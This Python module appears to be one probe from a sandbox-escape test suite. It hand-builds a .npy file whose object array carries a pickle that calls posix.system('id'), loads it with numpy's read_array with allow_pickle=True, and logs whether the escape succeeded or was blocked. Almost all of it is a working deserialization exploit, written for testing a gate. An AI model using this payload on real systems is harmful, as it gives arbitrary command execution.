# id: pkg-numpy-load-pickle
# technique: numpy.load unpickles an object array that a file-like object of the worker brings
# layer: gate
# goal: capability
# success_marker: ESCAPED


def reached(ctx, what):
    ctx.log.info('ESCAPED pkg-numpy-load-pickle: ' + str(what)[:80])


def attempt(ctx):
    import numpy
    head = "{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    text = head.ljust(117) + '\n'
    content = ['\x93NUMPY\x01\x00'.encode('latin1') + chr(118).encode() + chr(0).encode() + text.encode()]
    content[0] += b"cposix\nsystem\n(S'id'\ntR."

    class File:
        def read(self, size=-1):
            part, content[0] = (content[0][:size], content[0][size:]) if size >= 0 else (content[0], b'')
            return part

        def readline(self):
            return self.read(content[0].index(b'\n') + 1)

        def readinto(self, buffer):
            return 0

        def seek(self, *where):
            return 0

    loaded = numpy.lib.format.read_array(File(), allow_pickle=True)
    reached(ctx, 'system gave ' + str(loaded))


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED pkg-numpy-load-pickle: ' + str(e)[:160])
    ctx.log.info('DONE pkg-numpy-load-pickle')
